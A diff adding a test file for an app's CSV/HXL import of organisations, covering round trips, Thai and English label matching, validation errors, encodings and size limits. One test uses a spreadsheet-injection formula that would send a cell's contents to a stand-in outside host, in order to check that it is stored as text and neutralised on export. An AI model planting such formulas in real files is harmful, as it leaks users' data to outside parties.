@@ -1,0 +1,287 @@
+/**
+ * Issue 14, "data in and out" (the import half): organisations, routes and cards imported through
+ * the one column/value-mapping engine, on both backends. A file Mosaic exported (plain CSV and CSV
+ * with HXL) imports into an empty coalition and exports again the same; bad files (wrong encoding,
+ * missing columns, unknown codes, too many lines, too large, formulas) answer clearly and change
+ * nothing.
+ */
+import { parse } from 'csv-parse/sync';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { EntityImportResult, ImportFailure } from '../../src/contract/imports.ts';
+import { testBackends } from '../support/backends.ts';
+import { startApi, type ApiHarness } from '../support/api.ts';
+import { secondCoalition } from '../support/coalitions.ts';
+import en from '../../src/web/i18n/en.json' with { type: 'json' };
+import th from '../../src/web/i18n/th.json' with { type: 'json' };
+import { TAXONOMY_LABEL_PATHS, TAXONOMY_LABELS } from '../../src/domain/import/labels.ts';
+import { taxonomyVocabulary } from '../../src/domain/import/vocabularies.ts';
+import { VocabIndex } from '../../src/domain/import/values.ts';
+
+type Row = Record<string, string>;
+
+/** CSV text → rows keyed by header (the HXL row, when there is one, left out). */
+function rowsOf(body: string): Row[] {
+  const lines = parse(body.replace(/^\uFEFF/, '')) as string[][];
+  const [header, ...rest] = lines;
+  const data = rest[0]?.every((c) => c === '' || c.startsWith('#')) ? rest.slice(1) : rest;
+  return data.map((cells) => Object.fromEntries(header!.map((h, i) => [h, cells[i] ?? ''])));
+}
+
+/** What must survive a round trip: every column but the ones a new record gets anew. */
+const comparable = (rows: Row[], drop: readonly string[], sortBy: (r: Row) => string) =>
+  rows
+    .map((r) => Object.fromEntries(Object.entries(r).filter(([k]) => !drop.includes(k))))
+    .sort((a, b) => sortBy(a).localeCompare(sortBy(b)));
+
+const TABLES = [
+  'organisations',
+  'organisation_facets',
+  'routes',
+  'cards',
+  'import_mappings',
+  'audit_log',
+] as const;
+
+describe('the vocabularies imports match values against', () => {
+  it('carry the interface’s labels (English and Thai), and every label finds its own code', () => {
+    const at = (d: object, path: string): Record<string, string> =>
+      path.split('.').reduce<Record<string, unknown>>((o, k) => o[k] as Record<string, unknown>, {
+        ...d,
+      }) as Record<string, string>;
+    for (const [id, path] of Object.entries(TAXONOMY_LABEL_PATHS)) {
+      const [enLabels, thLabels] = [at(en, path), at(th, path)];
+      const codes = Object.keys(enLabels);
+      expect(Object.keys(TAXONOMY_LABELS[id]!), id).toEqual(codes);
+      const idx = new VocabIndex(taxonomyVocabulary(id, codes));
+      for (const code of codes) {
+        expect(TAXONOMY_LABELS[id]![code], `${id}.${code}`).toEqual([
+          enLabels[code],
+          thLabels[code],
+        ]);
+        for (const label of [enLabels[code]!, thLabels[code]!, code])
+          expect(idx.match(label).key, `${id}: ${label}`).toBe(code);
+      }
+    }
+  });
+});
+
+describe.each(testBackends())('entity imports on $name', (backend) => {
+  let h: ApiHarness;
+  let admin: string;
+  let empty: Awaited<ReturnType<typeof secondCoalition>>;
+  let emptyAdmin: string;
+
+  const get = (url: string, cookie: string) =>
+    h.app.inject({ method: 'GET', url, headers: { cookie } });
+  const post = (entity: string, payload: object, cookie: string, query = '') =>
+    h.app.inject({
+      method: 'POST',
+      url: `/api/imports/${entity}${query}`,
+      headers: { cookie },
+      payload,
+    });
+  /** Row counts of every table an import could touch: a refused import leaves them all. */
+  const snapshot = async () => {
+    const out: Record<string, number> = {};
+    for (const t of TABLES) {
+      const r = await h.store.db
+        .selectFrom(t)
+        .select((eb) => eb.fn.countAll<number>().as('n'))
+        .executeTakeFirstOrThrow();
+      out[t] = Number(r.n);
+    }
+    return out;
+  };
+  const refused = async (
+    entity: string,
+    payload: object,
+    cookie: string,
+    status = 422,
+  ): Promise<ImportFailure> => {
+    const before = await snapshot();
+    const r = await post(entity, { ...payload, dryRun: false }, cookie);
+    expect(r.statusCode, r.body).toBe(status);
+    expect(await snapshot()).toEqual(before);
+    return r.json<ImportFailure>();
+  };
+
+  beforeAll(async () => {
+    h = await startApi(backend);
+    admin = await h.adminCookie();
+    empty = await secondCoalition(h);
+    emptyAdmin = await empty.userWith('admin');
+  });
+  afterAll(async () => h?.close());
+
+  describe('organisations', () => {
+    const drop = ['id', 'created_at', 'updated_at'];
+    it('an export (plain CSV and CSV+HXL) imports into an empty coalition and exports the same', async () => {
+      const source = rowsOf((await get('/api/exports/organisations?format=csv', admin)).body);
+      expect(source.length).toBeGreaterThan(5);
+      const hxl = (await get('/api/exports/organisations?format=hxl', admin)).body;
+      // the HXL file alone, headers blanked: the hashtags must carry the columns
+      const tagsOnly = hxl.replace(/^\uFEFF?[^\n]*\n/, '');
+      for (const [i, file] of [hxl, tagsOnly].entries()) {
+        const fresh = await secondCoalition(h);
+        const cookie = await fresh.userWith('coordinator');
+        const dry = await post('organisations', { csv: file }, cookie);
+        expect(dry.statusCode, dry.body).toBe(200);
+        const d = dry.json<EntityImportResult>();
+        expect(d.dryRun).toBe(true);
+        expect(d.count).toBe(source.length);
+        expect(d.analysis.hxl).toBe(true);
+        const nothing = rowsOf((await get('/api/exports/organisations?format=csv', cookie)).body);
+        expect(nothing).toEqual([]);
+        const done = await post('organisations', { csv: file, dryRun: false }, cookie);
+        expect(done.statusCode, done.body).toBe(200);
+        expect(done.json<EntityImportResult>().count).toBe(source.length);
+        const again = rowsOf((await get('/api/exports/organisations?format=csv', cookie)).body);
+        expect(
+          comparable(again, drop, (r) => r.name!),
+          `file ${i}`,
+        ).toEqual(comparable(source, drop, (r) => r.name!));
+      }
+      const plain = (await get('/api/exports/organisations?format=csv', admin)).body;
+      const done = await post('organisations', { csv: plain, dryRun: false }, emptyAdmin);
+      expect(done.statusCode, done.body).toBe(200);
+      const again = rowsOf((await get('/api/exports/organisations?format=csv', emptyAdmin)).body);
+      expect(comparable(again, drop, (r) => r.name!)).toEqual(
+        comparable(source, drop, (r) => r.name!),
+      );
+    });
+
+    it('labels, synonyms and Thai words match their codes; what does not is asked once per value', async () => {
+      const csv = [
+        'Organisation,Type of organisation,Countries,Kind of work,Visibility',
+        'Alpha aid,Law enforcement,Thailand; Myanmar,Prevention,Public',
+        'Beta aid,หน่วยงานบังคับใช้กฎหมาย,ประเทศไทย,research,coalition',
+        'Gamma aid,Shadow agency,TH,Prevention,coalition',
+        'Delta aid,Shadow agency,XX,Prevention,coalition',
+      ].join('\n');
+      const f = await refused('organisations', { csv }, emptyAdmin);
+      expect(f.analysis?.unmatched.map((u) => [u.vocabulary, u.value, u.count])).toEqual([
+        ['orgType', 'Shadow agency', 2],
+        ['country', 'XX', 1],
+      ]);
+      expect(f.message).toMatch(/2 values need a choice \(1 orgType, 1 country\)/);
+      const choices = { values: { orgType: { 'shadow agency': 'NGO' }, country: { XX: '' } } };
+      const dry = await post('organisations', { csv, choices }, emptyAdmin);
+      expect(dry.statusCode, dry.body).toBe(200);
+      expect(dry.json<EntityImportResult>().count).toBe(4);
+      const done = await post('organisations', { csv, choices, dryRun: false }, emptyAdmin);
+      expect(done.statusCode, done.body).toBe(200);
+      const rows = rowsOf((await get('/api/exports/organisations?format=csv', emptyAdmin)).body);
+      const by = new Map(rows.map((r) => [r.name, r]));
+      expect(by.get('Alpha aid')).toMatchObject({
+        type: 'LawEnforcement',
+        countries: 'TH; MM',
+        kinds_of_work: 'prevention',
+        visibility: 'public',
+      });
+      expect(by.get('Beta aid')).toMatchObject({ type: 'LawEnforcement', countries: 'TH' });
+      expect(by.get('Delta aid')).toMatchObject({ type: 'NGO', countries: '' });
+      // the choices are remembered for the coalition: the same file asks nothing next time
+      const next = csv.replace(/aid/g, 'help');
+      expect((await post('organisations', { csv: next }, emptyAdmin)).statusCode).toBe(200);
+    });
+
+    it('bad lines are listed with line, column and reason; nothing is stored', async () => {
+      const csv = [
+        'name,type,countries,provinces,website',
+        ',NGO,TH,,',
+        `${'x'.repeat(201)},NGO,TH,,`,
+        'Fine,NGO,TH,TH-99,',
+        'Fine,NGO,TH,,',
+        'Cut,NGO',
+        'Site,NGO,TH,,not a site',
+      ].join('\n');
+      const f = await refused('organisations', { csv }, emptyAdmin);
+      const seen = f.problems.map((p) => [p.line, p.column, p.code]);
+      expect(seen).toEqual([
+        [2, 'name', 'value_required'],
+        [3, 'name', 'value_too_long'],
+        [4, 'provinces', 'value_unknown'],
+        [5, 'name', 'value_duplicate'],
+        [6, null, 'row_short'],
+        [7, 'website', 'value_invalid'],
+      ]);
+      expect(f.message).toMatch(/^6 problems on 6 lines; first: line 2, column "name"/);
+    });
+
+    it('a missing required column, a member, and another coalition’s records are refused', async () => {
+      const f = await refused('organisations', { csv: 'name,countries\nA,TH' }, emptyAdmin);
+      expect(f.problems.map((p) => [p.code, p.field])).toEqual([['column_missing', 'type']]);
+      const member = await h.userWith('member');
+      const r = await refused('organisations', { csv: 'name,type\nA,NGO' }, member, 403);
+      expect(r).toMatchObject({ error: 'forbidden' });
+      await refused('organisations', { csv: 'name,type\nA,NGO' }, '', 401);
+    });
+
+    it('Latin-1 and UTF-16 (LE and BE, with BOM) decode; an undecidable file is refused', async () => {
+      const text = 'name,type,description\nCafé São Tomé,NGO,Ação – “quoted”\n';
+      const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
+      const be = Buffer.from(le);
+      be.swap16();
+      const latin1 = Buffer.from(text.replace(/[–“”]/g, '-'), 'latin1');
+      for (const [i, bytes] of [le, be, latin1].entries()) {
+        const r = await post(
+          'organisations',
+          { file: { name: 'o.csv', data: bytes.toString('base64') } },
+          emptyAdmin,
+        );
+        expect(r.statusCode, r.body).toBe(200);
+        expect(r.json<EntityImportResult>().analysis.encoding).toBe(
+          ['utf-16le', 'utf-16be', 'windows-1252'][i],
+        );
+      }
+      const bad = Buffer.from([...Buffer.from('name,type\n'), 0x81, 0x8d, 0x8f, 0x90, 0x9d]);
+      const f = await refused(
+        'organisations',
+        { file: { name: 'o.csv', data: bad.toString('base64') } },
+        emptyAdmin,
+      );
+      expect(f).toMatchObject({ error: 'file_unreadable' });
+      expect(f.problems[0]?.code).toMatch(/^file_(encoding|binary)$/);
+    });
+
+    it('a formula is stored as text, never run, and comes back as the same text', async () => {
+      const formula = '=HYPERLINK("https://example.test/?"&A1,"open")';
+      const csv = `name,type,description\nFormula org,NGO,"${formula.replace(/"/g, '""')}"\n`;
+      const fresh = await secondCoalition(h);
+      const cookie = await fresh.userWith('admin');
+      expect((await post('organisations', { csv, dryRun: false }, cookie)).statusCode).toBe(200);
+      const json = await get('/api/exports/organisations?format=json', cookie);
+      const items = json.json<{ items: { description: string }[] }>().items;
+      expect(items.map((o) => o.description)).toEqual([formula]);
+      // the CSV export neutralises it; importing that file back gives the same text again
+      const out = (await get('/api/exports/organisations?format=csv', cookie)).body;
+      expect(rowsOf(out)[0]!.description).toBe(`'${formula}`);
+      const other = await secondCoalition(h);
+      const cookie2 = await other.userWith('admin');
+      expect((await post('organisations', { csv: out, dryRun: false }, cookie2)).statusCode).toBe(
+        200,
+      );
+      const back = (await get('/api/exports/organisations?format=json', cookie2)).json<{
+        items: { description: string }[];
+      }>();
+      expect(back.items.map((o) => o.description)).toEqual([formula]);
+    });
+
+    it('100,001 lines are refused with the limit; a 50 MB body is answered 413 quickly', async () => {
+      const lines = ['name,type'];
+      for (let i = 0; i <= 100_000; i++) lines.push(`Org ${i},NGO`);
+      const f = await refused('organisations', { csv: lines.join('\n') }, emptyAdmin);
+      expect(f.problems[0]).toMatchObject({ code: 'too_many_rows', params: { max: 100_000 } });
+      const big = Buffer.alloc(50 * 1024 * 1024, 'a').toString('base64');
+      const started = Date.now();
+      const r = await refused(
+        'organisations',
+        { file: { name: 'big.csv', data: big } },
+        emptyAdmin,
+        413,
+      );
+      expect(r).toMatchObject({ error: 'payload_too_large' });
+      expect(Date.now() - started).toBeLessThan(10_000);
+    });
+  });
+});
